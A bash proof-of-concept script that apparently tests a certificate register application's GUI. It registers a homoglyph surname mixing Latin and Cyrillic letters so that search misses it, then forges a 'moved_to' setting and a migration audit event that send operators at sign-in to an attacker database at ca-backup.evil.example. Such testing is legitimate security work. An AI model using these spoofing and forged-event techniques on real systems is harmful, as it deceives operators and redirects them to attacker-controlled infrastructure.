#!/usr/bin/env bash
# GUI (Xvfb + xdotool + ImageMagick import): (a) a holder registered with a Latin/Cyrillic mixed surname
# "Қаcымoвa" is not found by the Search tab for "Қасымова" and looks identical when found; (b) a moved_to mark
# "explained" by a forged register.migrated_out event: the sign-in of any workstation tells the operator to open
# the attacker's address. Screenshots in $W/*.png. Needs: apt-get install -y xvfb xdotool imagemagick. Exit 0.
NAME=gui-forged; . "$(dirname "$0")/common.sh"
GUI=${GUI:-$ATTACK_ROOT/bin/tirkeu}; FORGE=$(dirname "$(readlink -f "$0")")/forge_event.py
setup >/dev/null || { echo setup failed; cat $W/err; exit 1; }
submit_approve "" 'Қаcымoвa' >/dev/null; mkcsr $W/a.csr; issue $APP $W/a.csr $W/a.pem; say "issued for: $(sqlite3 $DB "select surname||' hex '||hex(surname) from persons")"
Xvfb :78 -screen 0 1600x1000x24 >$W/xvfb.log 2>&1 & XPID=$!
GPID=; trap 'kill $GPID $XPID 2>/dev/null' EXIT
sleep 1; export DISPLAY=:78 QT_QPA_PLATFORM=xcb TIRKEU_DB=$DB
S=1.1519; c() { xdotool mousemove $(python3 -c "print(round($1*$S), round($2*$S))") click 1; sleep 0.4; }
signin() { "$GUI" >$W/gui.log 2>&1 & GPID=$!; sleep 4; xdotool search --name 'sign in' windowactivate --sync 2>/dev/null
  xdotool type --delay 30 "$1"; xdotool key Tab; xdotool type --delay 30 "$1-Password-2026"; xdotool key Return; sleep 3; }
signin off1
c 228 62; c 375 92; xdotool key ctrl+a; xdotool type --delay 20 'Қасымова'; xdotool key Return; sleep 1.5; import -window root $W/search-cyrillic.png
c 375 92; xdotool key ctrl+a; xdotool type --delay 20 'Қаcымoвa'; xdotool key Return; sleep 1.5; import -window root $W/search-mixed.png
say "search screenshots: $W/search-cyrillic.png (nothing found), $W/search-mixed.png (one row, looks like Қасымова)"
kill $GPID; wait $GPID 2>/dev/null
EVIL='postgresql://tirkeu_app@ca-backup.evil.example/register'
sqlite3 $DB "INSERT INTO meta(key,value) VALUES ('moved_to','$EVIL')"
python3 $FORGE $DB admin register.migrated_out "$EVIL" "{\"from\":\"$DB\",\"to\":\"$EVIL\"}" | sed 's/^/   /'
signin off2; import -window root $W/forged-move.png
say "windows: $(xdotool search --name '.' getwindowname %@ 2>/dev/null | sort -u | tr '\n' '|')"
say "screenshot: $W/forged-move.png"
as aud audit verify; say "audit verify: rc=$? $(head -c 300 $W/out $W/err | tr '\n' ' ')"
exit 0
